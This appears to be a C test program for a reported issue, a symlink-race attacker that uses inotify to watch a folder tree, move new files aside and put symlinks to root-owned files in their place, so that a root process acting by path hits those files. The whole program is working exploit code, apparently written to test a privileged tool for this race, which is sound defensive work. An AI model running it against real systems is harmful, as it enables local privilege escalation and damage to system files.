/* A hostile local user's racer (issue 9): watches a folder tree with inotify
 * and, as soon as anything new appears in a watched folder, renames it away
 * and puts a symlink to a root-owned file in its place, hoping root then
 * chmods/chowns/writes/removes "its" file by path.
 *
 *   swap DURATION_S STOPFILE TOP TARGET...
 *
 * TOP's new subfolders are watched too (retrying while they are not yet
 * readable). Ends after DURATION_S or once STOPFILE exists. Prints "swaps=N tries=M" at the end. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXW 65536
static char *paths[MAXW];
static int ifd;
static char **targets;
static int ntargets;
static long swaps, tries, counter;
static volatile sig_atomic_t stop;
static void on_term(int sig) { (void)sig; stop = 1; }

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int watch(const char *path) {
    int wd = inotify_add_watch(ifd, path, IN_CREATE | IN_MOVED_TO | IN_ONLYDIR);
    if (wd >= 0 && wd < MAXW && !paths[wd]) paths[wd] = strdup(path);
    return wd;
}

static void scan(const char *top) {
    DIR *d = opendir(top);
    if (!d) return;
    struct dirent *e;
    char p[PATH_MAX];
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        snprintf(p, sizeof p, "%s/%s", top, e->d_name);
        watch(p);
    }
    closedir(d);
}

static void swap(const char *dir, const char *name) {
    char p[PATH_MAX], aside[PATH_MAX];
    struct stat st;
    if (name[0] == '.' && name[1] == 'r' && name[2] == 'a') return;
    snprintf(p, sizeof p, "%s/%s", dir, name);
    if (lstat(p, &st) == 0 && (S_ISLNK(st.st_mode) || S_ISDIR(st.st_mode)))
        return; /* ours, or a folder (hers) */
    tries++;
    snprintf(aside, sizeof aside, "%s/.ra%ld", dir, counter++);
    if (rename(p, aside) != 0) return;
    if (symlink(targets[swaps % ntargets], p) == 0) swaps++;
}

int main(int argc, char **argv) {
    if (argc < 5) return 2;
    double end = now() + atof(argv[1]);
    const char *stopfile = argv[2];
    const char *top = argv[3];
    targets = argv + 4;
    ntargets = argc - 4;
    ifd = inotify_init1(IN_NONBLOCK);
    signal(SIGTERM, on_term);
    int topwd;
    while ((topwd = watch(top)) < 0 && !stop && now() < end) usleep(1000);
    if (topwd < 0) { perror(top); return 1; }
    scan(top);
    char buf[65536] __attribute__((aligned(8)));
    double last_scan = 0;
    while (!stop && now() < end) {
        struct pollfd pfd = {ifd, POLLIN, 0};
        poll(&pfd, 1, 2);
        ssize_t n;
        while ((n = read(ifd, buf, sizeof buf)) > 0) {
            for (char *q = buf; q < buf + n;) {
                struct inotify_event *ev = (struct inotify_event *)q;
                q += sizeof *ev + ev->len;
                if (!ev->len || ev->wd < 0 || ev->wd >= MAXW || !paths[ev->wd]) continue;
                if (ev->wd == topwd) {
                    char p[PATH_MAX];
                    snprintf(p, sizeof p, "%s/%s", top, ev->name);
                    /* root makes it and only then hands it over: keep trying */
                    for (int i = 0; i < 20000 && watch(p) < 0 && errno == EACCES; i++) {}
                } else {
                    swap(paths[ev->wd], ev->name);
                }
            }
        }
        if (now() - last_scan > 0.05) {
            scan(top);
            last_scan = now();
            if (access(stopfile, F_OK) == 0) break;
        }
    }
    printf("swaps=%ld tries=%ld\n", swaps, tries);
    fflush(stdout);
    return 0;
}
